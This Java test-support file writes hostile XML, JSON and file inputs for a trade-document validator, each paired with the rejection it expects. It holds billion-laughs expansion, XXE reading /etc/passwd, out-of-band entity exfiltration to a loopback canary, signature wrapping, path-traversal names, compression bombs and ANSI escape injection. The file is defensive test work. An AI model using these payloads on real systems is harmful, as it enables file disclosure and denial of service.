package org.tradecert.hostile;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.tradecert.ProjectPaths;
import org.tradecert.crypto.Jcs;
import org.tradecert.engine.Validator;
import org.tradecert.envelope.StatementCodec;
import org.tradecert.schema.generate.JsonText;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import static org.tradecert.hostile.Outcomes.CONFORMANT;
import static org.tradecert.hostile.Outcomes.INPUT_OUTPUT;
import static org.tradecert.hostile.Outcomes.NON_CONFORMANT;

/**
 * Writes the hostile files of the XML, JSON and file-handling items of the checklist into a
 * folder at test time, each with the outcome tradecert must give it. The item ids are those of
 * docs/hostile-input.md. Inputs that name a URL name the loopback canary. Inputs that name a
 * local file name a secret file, whose content must never appear in a result. The item tests
 * and the mixed run share these definitions.
 */
final class HostileInputs {

    /** The content of the secret file, unusual enough that finding it anywhere means the file was read. */
    static final String SECRET = "hostile-secret-7c1f0e9a-never-read";

    /** One hostile input and the outcome tradecert must give it. */
    record Case(String item, String name, Path input, int exitCode, List<String> ruleIds) {

        @Override
        public String toString() {
            return item + " " + name;
        }
    }

    private static final String INVOICE_NS = "urn:tradecert:schema:commercial-invoice:1";
    private static final String DSIG_NS = "http://www.w3.org/2000/09/xmldsig#";

    private final Path dir;
    private final Canary canary;
    private final Path secret;
    private final String xml;
    private final String json;

    HostileInputs(Path dir, Canary canary) {
        this.dir = dir;
        this.canary = canary;
        try {
            Files.createDirectories(dir);
            this.secret = dir.resolve("secret.txt");
            Files.writeString(secret, SECRET + "\n");
            Path sea = ProjectPaths.examples().resolve("documents/valid/sea");
            this.xml = Files.readString(sea.resolve("commercial-invoice.xml"));
            this.json = Files.readString(sea.resolve("commercial-invoice.json"));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Returns the file: URL of the secret file. */
    String secretUrl() {
        return secret.toUri().toString();
    }

    /**
     * Writes every case of the XML, JSON and file-handling items, envelopes included. The
     * envelopes are signed by the given consortium and must be validated with its registry.
     */
    List<Case> all(Consortium consortium) throws Exception {
        List<Case> all = new ArrayList<>(documents());
        all.addAll(j08(consortium));
        all.addAll(j14(consortium));
        all.addAll(c01(consortium));
        return all;
    }

    /** Writes every case of the XML, JSON and file-handling items that is not an envelope. */
    List<Case> documents() {
        List<Case> all = new ArrayList<>();
        all.addAll(x01());
        all.addAll(x02());
        all.addAll(x03());
        all.addAll(x04());
        all.addAll(x05());
        all.addAll(x07());
        all.addAll(x08());
        all.addAll(x09());
        all.addAll(x10());
        all.addAll(x11());
        all.addAll(x12());
        all.addAll(x13());
        all.addAll(x14());
        all.addAll(x15());
        all.addAll(x16());
        all.addAll(x17());

        all.addAll(j01());
        all.addAll(j02());
        all.addAll(j03());
        all.addAll(j04());
        all.addAll(j05());
        all.addAll(j06());
        all.addAll(j07());
        all.addAll(j09());
        all.addAll(j10());
        all.addAll(j11());
        all.addAll(j12());
        all.addAll(j13());

        all.addAll(c02());
        all.addAll(c03());
        all.addAll(c04());
        return all;
    }

    // XML payloads

    /** Writes nested internal entities, each expanding to ten of the one before: a billion "lol" if expanded. */
    List<Case> x01() {
        StringBuilder doctype = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
        for (int level = 1; level <= 9; level++) {
            String previous = level == 1 ? "lol" : "lol" + (level - 1);
            doctype.append(" <!ENTITY lol").append(level).append(" \"").append(("&" + previous + ";").repeat(10)).append("\">\n");
        }
        doctype.append("]>\n<lolz>&lol9;</lolz>\n");
        String afterComment = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- <!DOCTYPE hidden> -->\n<?note ?>\n"
                + doctype.substring(doctype.indexOf("<!DOCTYPE"));
        String cii = doctype.toString().replace("<lolz>&lol9;</lolz>",
                "<rsm:CrossIndustryInvoice xmlns:rsm=\"urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100\">&lol9;</rsm:CrossIndustryInvoice>");
        return List.of(
                xmlCase("X1", "billion-laughs", doctype.toString(), NON_CONFORMANT, "INPUT-XML-DTD"),
                xmlCase("X1", "billion-laughs-after-comment-and-pi", afterComment, NON_CONFORMANT, "INPUT-XML-DTD"),
                xmlCase("X1", "billion-laughs-in-cii-invoice", cii, NON_CONFORMANT, "INPUT-XML-DTD"));
    }

    /** Writes external general entities naming a local file, in a commercial invoice and on their own. */
    List<Case> x02() {
        String entity = "<!DOCTYPE ci:CommercialInvoice [<!ENTITY secret SYSTEM \"" + secretUrl() + "\">]>\n";
        String invoice = xml.replace("?>\n", "?>\n" + entity).replace("<ram:ID>HL-INV-2026-0142</ram:ID>", "<ram:ID>&secret;</ram:ID>");
        String passwd = "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<r>&x;</r>\n";
        return List.of(
                xmlCase("X2", "external-entity-secret-file", invoice, NON_CONFORMANT, "INPUT-XML-DTD"),
                xmlCase("X2", "external-entity-etc-passwd", passwd, NON_CONFORMANT, "INPUT-XML-DTD"));
    }

    /** Writes parameter entities: one that loads a DTD from the canary, and the out-of-band exfiltration pattern. */
    List<Case> x03() {
        String remote = "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY % remote SYSTEM \"" + canary.url("x03/remote.dtd") + "\"> %remote;]>\n<r/>\n";
        String exfiltrate = "<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n <!ENTITY % file SYSTEM \"" + secretUrl() + "\">\n"
                + " <!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '" + canary.url("x03/collect?d=") + "%file;'>\">\n"
                + " %wrap; %send;\n]>\n<r/>\n";
        return List.of(
                xmlCase("X3", "parameter-entity-remote-dtd", remote, NON_CONFORMANT, "INPUT-XML-DTD"),
                xmlCase("X3", "parameter-entity-out-of-band", exfiltrate, NON_CONFORMANT, "INPUT-XML-DTD"));
    }

    /** Writes a valid invoice preceded by a DOCTYPE that only names an external DTD on the canary. */
    List<Case> x04() {
        String external = xml.replace("?>\n", "?>\n<!DOCTYPE ci:CommercialInvoice SYSTEM \"" + canary.url("x04/invoice.dtd") + "\">\n");
        String publicId = xml.replace("?>\n", "?>\n<!DOCTYPE ci:CommercialInvoice PUBLIC \"-//Hostile//DTD Invoice//EN\" \""
                + canary.url("x04/public.dtd") + "\">\n");
        return List.of(
                xmlCase("X4", "external-dtd-system", external, NON_CONFORMANT, "INPUT-XML-DTD"),
                xmlCase("X4", "external-dtd-public", publicId, NON_CONFORMANT, "INPUT-XML-DTD"));
    }

    /** Writes schema location hints naming the canary and the secret file, on an otherwise valid invoice. */
    List<Case> x05() {
        String xsi = "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" ";
        String remote = xml.replace("xmlns:ram=", xsi + "xsi:schemaLocation=\"" + INVOICE_NS + " " + canary.url("x05/invoice.xsd")
                + "\" xmlns:ram=");
        String local = xml.replace("xmlns:ram=", xsi + "xsi:noNamespaceSchemaLocation=\"" + secretUrl() + "\" xmlns:ram=");
        return List.of(
                xmlCase("X5", "schema-location-http", remote, CONFORMANT, "INPUT-XML-SCHEMA-HINT"),
                xmlCase("X5", "no-namespace-schema-location-file", local, CONFORMANT, "INPUT-XML-SCHEMA-HINT"));
    }

    /** Writes XInclude elements that would pull the secret file and a canary URL into an invoice. */
    List<Case> x07() {
        String include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + secretUrl() + "\" parse=\"text\"/>"
                + "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + canary.url("x07/part.xml") + "\"/>";
        String invoice = xml.replace("</ci:ExchangedDocument>", "</ci:ExchangedDocument>\n  " + include);
        return List.of(xmlCase("X7", "xinclude", invoice, NON_CONFORMANT, "SCHEMA-STRUCTURE"));
    }

    /** Writes a style sheet processing instruction naming the canary, on a valid invoice. */
    List<Case> x08() {
        String invoice = xml.replace("?>\n", "?>\n<?xml-stylesheet type=\"text/xsl\" href=\"" + canary.url("x08/evil.xsl") + "\"?>\n");
        return List.of(xmlCase("X8", "xml-stylesheet", invoice, CONFORMANT, "INPUT-XML-PI"));
    }

    /** Writes 100,000 nested elements. */
    List<Case> x09() {
        Path file = dir.resolve("x09-nesting-100000.xml");
        write(file, out -> {
            out.write("<?xml version=\"1.0\"?>\n".getBytes(StandardCharsets.US_ASCII));
            repeat(out, "<a>", 100_000);
            repeat(out, "</a>", 100_000);
        });
        return List.of(new Case("X9", "nesting-100000", file, NON_CONFORMANT, List.of("INPUT-XML-DEPTH")));
    }

    /** Writes 50,000 attributes on one element, and an element name of one million characters. */
    List<Case> x10() {
        Path attributes = dir.resolve("x10-attributes-50000.xml");
        write(attributes, out -> {
            out.write("<?xml version=\"1.0\"?>\n<r".getBytes(StandardCharsets.US_ASCII));
            for (int i = 0; i < 50_000; i++) {
                out.write((" a" + i + "=\"x\"").getBytes(StandardCharsets.US_ASCII));
            }
            out.write("/>\n".getBytes(StandardCharsets.US_ASCII));
        });
        Path name = dir.resolve("x10-name-1mb.xml");
        write(name, out -> {
            out.write("<?xml version=\"1.0\"?>\n<".getBytes(StandardCharsets.US_ASCII));
            repeat(out, "n", 1_000_000);
            out.write("/>\n".getBytes(StandardCharsets.US_ASCII));
        });
        return List.of(
                new Case("X10", "attributes-50000", attributes, NON_CONFORMANT, List.of("INPUT-XML-ATTRIBUTES")),
                new Case("X10", "element-name-1mb", name, NON_CONFORMANT, List.of("INPUT-XML-NAME")));
    }

    /** Writes a well-formed invoice padded with a comment to one byte over the 20 MiB cap. */
    List<Case> x11() {
        Path file = dir.resolve("x11-over-cap.xml");
        byte[] head = xml.replace("</ci:CommercialInvoice>", "").getBytes(StandardCharsets.UTF_8);
        byte[] tail = "-->\n</ci:CommercialInvoice>\n".getBytes(StandardCharsets.US_ASCII);
        long padding = Validator.DEFAULT_MAX_BYTES + 1 - head.length - tail.length - 4;
        write(file, out -> {
            out.write(head);
            out.write("<!--".getBytes(StandardCharsets.US_ASCII));
            repeat(out, "x", padding);
            out.write(tail);
        });
        return List.of(new Case("X11", "over-20-mib", file, NON_CONFORMANT, List.of("INPUT-TOO-LARGE")));
    }

    /** Writes encodings other than UTF-8: UTF-16, a declared UTF-7 and Latin-1, bytes that are not UTF-8, a BOM that contradicts the declaration. */
    List<Case> x12() {
        byte[] invalid = xml.getBytes(StandardCharsets.UTF_8);
        int at = xml.indexOf("Binhai");
        invalid[at] = (byte) 0xC3;
        invalid[at + 1] = (byte) 0x28;
        String declaredUtf16 = xml.replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\"");
        return List.of(
                bytesCase("X12", "utf-16-with-bom", xml.replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\"").getBytes(StandardCharsets.UTF_16),
                        "xml", NON_CONFORMANT, "INPUT-ENCODING"),
                xmlCase("X12", "declared-utf-7", xml.replace("encoding=\"UTF-8\"", "encoding=\"UTF-7\""), NON_CONFORMANT,
                        "INPUT-DECLARED-ENCODING"),
                xmlCase("X12", "declared-latin-1", xml.replace("encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\""), NON_CONFORMANT,
                        "INPUT-DECLARED-ENCODING"),
                bytesCase("X12", "invalid-utf-8", invalid, "xml", NON_CONFORMANT, "INPUT-ENCODING"),
                bytesCase("X12", "utf-8-bom-declares-utf-16", withUtf8Bom(declaredUtf16), "xml", NON_CONFORMANT, "INPUT-DECLARED-ENCODING"));
    }

    /** Writes 8,192 attributes whose names all have the same Java hash code ("Aa" and "BB" collide), as in CVE-2012-0881. */
    List<Case> x13() {
        StringBuilder element = new StringBuilder("<?xml version=\"1.0\"?>\n<r");
        for (int bits = 0; bits < 1 << 13; bits++) {
            element.append(' ');
            for (int position = 0; position < 13; position++) {
                element.append((bits >> position & 1) == 0 ? "Aa" : "BB");
            }
            element.append("=\"x\"");
        }
        element.append("/>\n");
        return List.of(xmlCase("X13", "colliding-attribute-names", element.toString(), NON_CONFORMANT, "INPUT-XML-ATTRIBUTES"));
    }

    /** Writes namespace games: the root's local name in a foreign namespace, an unusual prefix, a prefix rebound inside. */
    List<Case> x14() {
        String foreign = xml.replace("xmlns:ci=\"" + INVOICE_NS + "\"", "xmlns:ci=\"urn:hostile:commercial-invoice:1\"");
        String otherPrefix = xml.replace("ci:", "evil:").replace("xmlns:ci=", "xmlns:evil=");
        String rebound = xml.replace("<ram:ID>HL-INV-2026-0142</ram:ID>",
                "<ram:ID xmlns:ram=\"urn:hostile:common\">HL-INV-2026-0142</ram:ID>");
        return List.of(
                xmlCase("X14", "root-in-foreign-namespace", foreign, NON_CONFORMANT, "SCHEMA-TYPE-UNKNOWN"),
                xmlCase("X14", "unusual-prefix", otherPrefix, CONFORMANT),
                xmlCase("X14", "prefix-rebound-inside", rebound, NON_CONFORMANT, "SCHEMA-STRUCTURE"));
    }

    /** Writes two XMLDSig Signature elements, and two elements carrying the same Id attribute. */
    List<Case> x15() {
        String signatures = xml.replace("</ci:CommercialInvoice>", "  <ds:Signature xmlns:ds=\"" + DSIG_NS + "\" Id=\"s\"/>\n"
                + "  <ds:Signature xmlns:ds=\"" + DSIG_NS + "\" Id=\"s\"/>\n</ci:CommercialInvoice>");
        String ids = xml.replace("<ci:ExchangedDocument>", "<ci:ExchangedDocument Id=\"doc\">")
                .replace("<ci:SellerTradeParty>", "<ci:SellerTradeParty Id=\"doc\">");
        return List.of(
                xmlCase("X15", "two-signature-elements", signatures, NON_CONFORMANT, "SCHEMA-STRUCTURE"),
                xmlCase("X15", "duplicate-id-attributes", ids, NON_CONFORMANT, "SCHEMA-STRUCTURE"));
    }

    /** Writes an embedded XMLDSig signature with an XSLT transform, a RetrievalMethod and a Reference to the canary. */
    List<Case> x16() {
        String signature = "<ds:Signature xmlns:ds=\"" + DSIG_NS + "\"><ds:SignedInfo>"
                + "<ds:CanonicalizationMethod Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>"
                + "<ds:SignatureMethod Algorithm=\"http://www.w3.org/2001/04/xmldsig-more#rsa-sha256\"/>"
                + "<ds:Reference URI=\"" + canary.url("x16/reference") + "\"><ds:Transforms>"
                + "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\">"
                + "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\">"
                + "<xsl:template match=\"/\"><xsl:value-of select=\"document('" + canary.url("x16/xslt") + "')\"/></xsl:template>"
                + "</xsl:stylesheet></ds:Transform></ds:Transforms>"
                + "<ds:DigestMethod Algorithm=\"http://www.w3.org/2001/04/xmlenc#sha256\"/><ds:DigestValue>AA==</ds:DigestValue>"
                + "</ds:Reference></ds:SignedInfo><ds:SignatureValue>AA==</ds:SignatureValue>"
                + "<ds:KeyInfo><ds:RetrievalMethod URI=\"" + canary.url("x16/key") + "\"/></ds:KeyInfo></ds:Signature>";
        return List.of(xmlCase("X16", "xmldsig-transforms-and-retrieval", xml.replace("</ci:CommercialInvoice>",
                signature + "\n</ci:CommercialInvoice>"), NON_CONFORMANT, "SCHEMA-STRUCTURE"));
    }

    /**
     * Writes a signature wrapping: a signature over a copy of the seller wrapped in ds:Object,
     * while the business data stays where the schema puts it. The document schema has no place
     * for the signature.
     */
    List<Case> x17() {
        int start = xml.indexOf("<ci:SellerTradeParty>");
        int end = xml.indexOf("</ci:SellerTradeParty>") + "</ci:SellerTradeParty>".length();
        String copy = xml.substring(start, end).replace("<ci:SellerTradeParty>", "<ci:SellerTradeParty Id=\"signed\">");
        String signature = "<ds:Signature xmlns:ds=\"" + DSIG_NS + "\"><ds:SignedInfo><ds:Reference URI=\"#signed\"/></ds:SignedInfo>"
                + "<ds:SignatureValue>AA==</ds:SignatureValue><ds:Object>" + copy + "</ds:Object></ds:Signature>";
        return List.of(xmlCase("X17", "signature-wrapping", xml.replace("</ci:CommercialInvoice>", signature + "\n</ci:CommercialInvoice>"),
                NON_CONFORMANT, "SCHEMA-STRUCTURE"));
    }

    // JSON payloads

    /** Writes 100,000 nested arrays, and 100,000 nested objects. */
    List<Case> j01() {
        Path arrays = dir.resolve("j01-arrays-100000.json");
        write(arrays, out -> {
            repeat(out, "[", 100_000);
            repeat(out, "]", 100_000);
        });
        Path objects = dir.resolve("j01-objects-100000.json");
        write(objects, out -> {
            repeat(out, "{\"a\":", 100_000);
            out.write('1');
            repeat(out, "}", 100_000);
        });
        return List.of(
                new Case("J1", "arrays-100000-deep", arrays, NON_CONFORMANT, List.of("INPUT-JSON-DEPTH")),
                new Case("J1", "objects-100000-deep", objects, NON_CONFORMANT, List.of("INPUT-JSON-DEPTH")));
    }

    /** Writes a number of one million digits in the place of an amount. */
    List<Case> j02() {
        Path file = dir.resolve("j02-number-1mb.json");
        int at = json.indexOf("\"34600\"");
        write(file, out -> {
            out.write(json.substring(0, at).getBytes(StandardCharsets.UTF_8));
            repeat(out, "9", 1_000_000);
            out.write(json.substring(at + "\"34600\"".length()).getBytes(StandardCharsets.UTF_8));
        });
        return List.of(new Case("J2", "number-one-million-digits", file, NON_CONFORMANT, List.of("INPUT-JSON-NUMBER-LENGTH")));
    }

    /** Writes exponents far outside any amount: 1e1000000000, 1e-1000000000 and an exponent beyond a Java int. */
    List<Case> j03() {
        return List.of(
                jsonCase("J3", "exponent-plus-1e9", json.replace("\"34600\"", "1e1000000000"), NON_CONFORMANT, "INPUT-JSON-NUMBER-RANGE"),
                jsonCase("J3", "exponent-minus-1e9", json.replace("\"34600\"", "1e-1000000000"), NON_CONFORMANT, "INPUT-JSON-NUMBER-RANGE"),
                jsonCase("J3", "exponent-beyond-int", json.replace("\"34600\"", "1e99999999999"), NON_CONFORMANT, "INPUT-JSON-NUMBER-RANGE"));
    }

    /** Writes the same member twice, in a small object and inside an invoice amount. */
    List<Case> j04() {
        String amount = json.replace("\"content\": \"34600\",", "\"content\": \"34600\", \"content\": \"-34600\",");
        return List.of(
                jsonCase("J4", "duplicate-amount", "{\"amount\":1,\"amount\":-1}", NON_CONFORMANT, "INPUT-JSON-DUPLICATE-KEY"),
                jsonCase("J4", "duplicate-in-invoice", amount, NON_CONFORMANT, "INPUT-JSON-DUPLICATE-KEY"));
    }

    /** Writes what lenient parsers accept: comments, trailing commas, single quotes, NaN, Infinity, leading zeros. */
    List<Case> j05() {
        return List.of(
                jsonCase("J5", "comment", firstMember(" /* comment */"), NON_CONFORMANT, "INPUT-JSON-MALFORMED"),
                jsonCase("J5", "trailing-comma", json.replace("\"typeCode\": \"380\",", "\"typeCode\": \"380\",,"), NON_CONFORMANT,
                        "INPUT-JSON-MALFORMED"),
                jsonCase("J5", "single-quotes", json.replace("\"typeCode\": \"380\"", "'typeCode': '380'"), NON_CONFORMANT,
                        "INPUT-JSON-MALFORMED"),
                jsonCase("J5", "nan", json.replace("\"34600\"", "NaN"), NON_CONFORMANT, "INPUT-JSON-MALFORMED"),
                jsonCase("J5", "infinity", json.replace("\"34600\"", "Infinity"), NON_CONFORMANT, "INPUT-JSON-MALFORMED"),
                jsonCase("J5", "leading-zero", json.replace("\"34600\"", "034600"), NON_CONFORMANT, "INPUT-JSON-MALFORMED"));
    }

    /** Writes a lone surrogate in a value and in a member name, bytes that are not UTF-8, a UTF-8 BOM and a UTF-16 BOM. */
    List<Case> j06() {
        byte[] invalid = json.getBytes(StandardCharsets.UTF_8);
        int at = json.indexOf("Binhai");
        invalid[at] = (byte) 0xED;
        invalid[at + 1] = (byte) 0xA0;
        invalid[at + 2] = (byte) 0x80;
        return List.of(
                jsonCase("J6", "lone-surrogate-value", json.replace("\"Binhai New Area\"", "\"Binhai \\uD800 Area\""), NON_CONFORMANT,
                        "INPUT-JSON-UNICODE"),
                jsonCase("J6", "lone-surrogate-name", json.replace("\"lineTwo\"", "\"line\\uDC00Two\""), NON_CONFORMANT, "INPUT-JSON-UNICODE"),
                bytesCase("J6", "encoded-surrogate-bytes", invalid, "json", NON_CONFORMANT, "INPUT-ENCODING"),
                bytesCase("J6", "utf-8-bom", withUtf8Bom(json), "json", CONFORMANT),
                bytesCase("J6", "utf-16-bom", json.getBytes(StandardCharsets.UTF_16), "json", NON_CONFORMANT, "INPUT-ENCODING"));
    }

    /** Writes a JSON document over the 20 MiB cap, and a two-million-character string within it. */
    List<Case> j07() {
        Path large = dir.resolve("j07-over-cap.json");
        int at = json.indexOf("Binhai New Area");
        write(large, out -> {
            out.write(json.substring(0, at).getBytes(StandardCharsets.UTF_8));
            repeat(out, "x", Validator.DEFAULT_MAX_BYTES);
            out.write(json.substring(at).getBytes(StandardCharsets.UTF_8));
        });
        Path string = dir.resolve("j07-string-2m.json");
        write(string, out -> {
            out.write(json.substring(0, at).getBytes(StandardCharsets.UTF_8));
            repeat(out, "x", 2_000_000);
            out.write(json.substring(at).getBytes(StandardCharsets.UTF_8));
        });
        return List.of(
                new Case("J7", "document-over-20-mib", large, NON_CONFORMANT, List.of("INPUT-TOO-LARGE")),
                new Case("J7", "string-2-million-characters", string, NON_CONFORMANT, List.of("INPUT-JSON-STRING-LENGTH")));
    }

    /** Writes instance members named $ref that point at the canary and at the secret file: data, never dereferenced. */
    List<Case> j09() {
        String remote = firstMember("\n  \"$ref\": \"" + canary.url("j09/latest/meta-data") + "\",");
        String local = json.replace("\"seller\": {", "\"seller\": {\n    \"$ref\": \"" + secretUrl() + "\",");
        return List.of(
                jsonCase("J9", "instance-ref-http", remote, NON_CONFORMANT, "SCHEMA-STRUCTURE"),
                jsonCase("J9", "instance-ref-file", local, NON_CONFORMANT, "SCHEMA-STRUCTURE"));
    }

    /**
     * Writes input aimed at a slow pattern: a 900,000-character party name of repeated words
     * ending in a control character, which the text pattern of the schema must fail.
     */
    List<Case> j10() {
        String name = "ab ".repeat(300_000).trim() + "\\u0001";
        return List.of(jsonCase("J10", "long-text-against-pattern",
                json.replace("\"Van der Berg Industrial Supplies B.V.\"", "\"" + name + "\""), NON_CONFORMANT, "SCHEMA-VALUE-FORM"));
    }

    /** Writes the deepest nesting the parser allows under a member the schema does not know, to make the validator recurse. */
    List<Case> j11() {
        String nested = "[".repeat(60) + "{\"anyOf\":[{\"$ref\":\"#\"}]}" + "]".repeat(60);
        return List.of(jsonCase("J11", "deep-unknown-member", firstMember("\n  \"recursion\": " + nested + ","),
                NON_CONFORMANT, "SCHEMA-STRUCTURE"));
    }

    /** Writes five million array elements, ten megabytes, into an invoice: under the size cap, far over the token limit. */
    List<Case> j12() {
        Path file = dir.resolve("j12-array-5m.json");
        int at = json.indexOf("\"Binhai New Area\"");
        write(file, out -> {
            out.write(json.substring(0, at).getBytes(StandardCharsets.UTF_8));
            out.write('[');
            repeat(out, "0,", 5_000_000);
            out.write("0]".getBytes(StandardCharsets.US_ASCII));
            out.write(json.substring(at + "\"Binhai New Area\"".length()).getBytes(StandardCharsets.UTF_8));
        });
        return List.of(new Case("J12", "array-5-million-elements", file, NON_CONFORMANT, List.of("INPUT-JSON-VALUES")));
    }

    /** Writes instances that name another dialect or a remote schema in $schema, or set their own $id. */
    List<Case> j13() {
        String ownSchema = "https://schemas.tradecert.org/commercial-invoice/1.0.0/json/commercial-invoice.schema.json";
        return List.of(
                jsonCase("J13", "schema-is-meta-schema", json.replace(ownSchema, "https://json-schema.org/draft/2020-12/schema"),
                        NON_CONFORMANT, "SCHEMA-TYPE-UNKNOWN"),
                jsonCase("J13", "schema-on-canary", json.replace(ownSchema, canary.url("j13/schema.json")), NON_CONFORMANT,
                        "SCHEMA-TYPE-UNKNOWN"),
                jsonCase("J13", "own-id", firstMember("\n  \"$id\": \"" + canary.url("j13/id") + "\","), NON_CONFORMANT,
                        "SCHEMA-STRUCTURE"));
    }

    // Signed statements (the envelope side of the JSON items) and attachments

    /** Writes statements that are valid JSON but not I-JSON: integers beyond 2^53 and an exponent beyond the int range. */
    List<Case> j08(Consortium consortium) throws Exception {
        ObjectNode invoice = consortium.invoice();
        String statement = Tampering.statementText(invoice);
        List<Case> cases = new ArrayList<>();
        for (String number : List.of("9007199254740993", "18446744073709551617", "1e99999999999")) {
            byte[] changed = statement.replace("\"docVersion\":1,", "\"docVersion\":" + number + ",").getBytes(StandardCharsets.UTF_8);
            cases.add(envelopeCase("J8", "doc-version-" + number, Tampering.withStatementBytes(invoice, changed, consortium.key("exporter")),
                    "ENV-CANONICAL"));
        }
        return cases;
    }

    /**
     * Writes statements that carry the content of the canonical one in another form. Members are
     * reordered, spaces or a final line break added, or a character escaped where it belongs
     * as itself. The last variant gives a member twice, so two readers could see two values.
     */
    List<Case> j14(Consortium consortium) throws Exception {
        ObjectNode invoice = consortium.invoice();
        String statement = Tampering.statementText(invoice);
        String docType = "\"docType\":\"commercial-invoice\",";
        Map<String, String> variants = new LinkedHashMap<>();
        variants.put("reordered", statement.replace(docType, "").replace("{\"createdAt\"", "{" + docType + "\"createdAt\""));
        variants.put("spaces", statement.replace(",", ", "));
        variants.put("line-break", statement + "\n");
        variants.put("needless-escape", statement.replace("\"commercial-invoice\"", "\"commercial\\u002dinvoice\""));
        variants.put("duplicate-member", statement.replace("{\"createdAt\"", "{\"docId\":\"OTHER-NUMBER\",\"createdAt\""));
        List<Case> cases = new ArrayList<>();
        for (Map.Entry<String, String> variant : variants.entrySet()) {
            byte[] bytes = variant.getValue().getBytes(StandardCharsets.UTF_8);
            cases.add(envelopeCase("J14", variant.getKey(), Tampering.withStatementBytes(invoice, bytes, consortium.key("exporter")),
                    "ENV-CANONICAL"));
        }
        return cases;
    }

    /**
     * Writes attachments with path tricks in their names: listed in the signed statement
     * (canonical and signed), and as a member of the envelope beside the signatures.
     */
    List<Case> c01(Consortium consortium) throws Exception {
        ObjectNode invoice = consortium.invoice();
        ObjectNode statement = StatementCodec.toJson(Tampering.statement(invoice));
        ArrayNode attachments = statement.putArray("attachments");
        for (String name : List.of("../secret.txt", secret.toString(), "invoice\u0000.xml")) {
            ObjectNode attachment = attachments.addObject();
            attachment.put("name", name);
            attachment.put("mediaType", "application/xml");
            attachment.put("length", 10);
        }
        ObjectNode listed = Tampering.withStatementBytes(invoice, Jcs.canonicalize(statement), consortium.key("exporter"));
        ObjectNode member = invoice.deepCopy();
        member.putArray("attachments").addObject().put("name", "../secret.txt");
        return List.of(
                envelopeCase("C1", "attachments-in-statement", listed, "ENV-STATEMENT"),
                envelopeCase("C1", "attachments-in-envelope", member, "ENV-STRUCTURE"));
    }

    private Case envelopeCase(String item, String name, ObjectNode envelope, String ruleId) {
        Path file = dir.resolve(item.toLowerCase(java.util.Locale.ROOT) + "-" + name + ".envelope.json");
        write(file, out -> out.write(JsonText.write(envelope).getBytes(StandardCharsets.UTF_8)));
        return new Case(item, name, file, NON_CONFORMANT, List.of(ruleId));
    }

    // File handling

    /** Writes a gzip and a zip of 100 MB of zeros. Archives are never opened, so each bomb stays about 100 KB of binary. */
    List<Case> c02() {
        Path gzip = dir.resolve("c02-bomb.xml.gz");
        write(gzip, out -> {
            try (GZIPOutputStream compressed = new GZIPOutputStream(out)) {
                byte[] zeros = new byte[1 << 20];
                for (int i = 0; i < 100; i++) {
                    compressed.write(zeros);
                }
            }
        });
        Path zip = dir.resolve("c02-bomb.zip");
        write(zip, out -> {
            try (ZipOutputStream compressed = new ZipOutputStream(out)) {
                compressed.putNextEntry(new ZipEntry("invoice.xml"));
                byte[] zeros = new byte[1 << 20];
                for (int i = 0; i < 100; i++) {
                    compressed.write(zeros);
                }
                compressed.closeEntry();
            }
        });
        return List.of(
                new Case("C2", "gzip-bomb", gzip, NON_CONFORMANT, List.of("INPUT-BINARY")),
                new Case("C2", "zip-bomb", zip, NON_CONFORMANT, List.of("INPUT-BINARY")));
    }

    /**
     * Lists a device, a named pipe (when the system has {@code mkfifo}) and a folder holding a
     * symbolic link to the secret file, none of which may be read.
     */
    List<Case> c03() {
        List<Case> cases = new ArrayList<>();
        cases.add(new Case("C3", "device-dev-zero", Path.of("/dev/zero"), INPUT_OUTPUT, List.of("INPUT-NOT-REGULAR")));
        Path fifo = dir.resolve("c03-fifo.xml");
        if (makeFifo(fifo)) {
            cases.add(new Case("C3", "named-pipe", fifo, INPUT_OUTPUT, List.of("INPUT-NOT-REGULAR")));
        }
        Path folder = dir.resolve("c03-folder-with-link");
        try {
            Files.createDirectories(folder);
            Files.createSymbolicLink(folder.resolve("invoice.xml"), secret);
        } catch (IOException | UnsupportedOperationException e) {
            throw new IllegalStateException("a symbolic link cannot be made in " + folder, e);
        }
        cases.add(new Case("C3", "symbolic-link-in-folder", folder, INPUT_OUTPUT, List.of("INPUT-NOT-REGULAR")));
        return cases;
    }

    /** Writes ANSI escape sequences and line breaks into a JSON invoice's text, aimed at a terminal report. */
    List<Case> c04() {
        String escapes = json.replace("\"Rotterdam\",\n      \"postcode\"", "\"\\u001b[2J\\u001b[31mRotterdam\\r\\nOK 0 findings\",\n      \"postcode\"");
        return List.of(jsonCase("C4", "ansi-escapes-in-text", escapes, NON_CONFORMANT, "SCHEMA-VALUE-FORM"));
    }

    /** Creates a named pipe with the system's mkfifo; false when there is none (the case is then left out). */
    static boolean makeFifo(Path path) {
        try {
            Process process = new ProcessBuilder("mkfifo", path.toString()).redirectErrorStream(true).start();
            process.getInputStream().readAllBytes();
            return process.waitFor() == 0 && Files.exists(path);
        } catch (IOException e) {
            return false;
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            return false;
        }
    }

    // Writing helpers

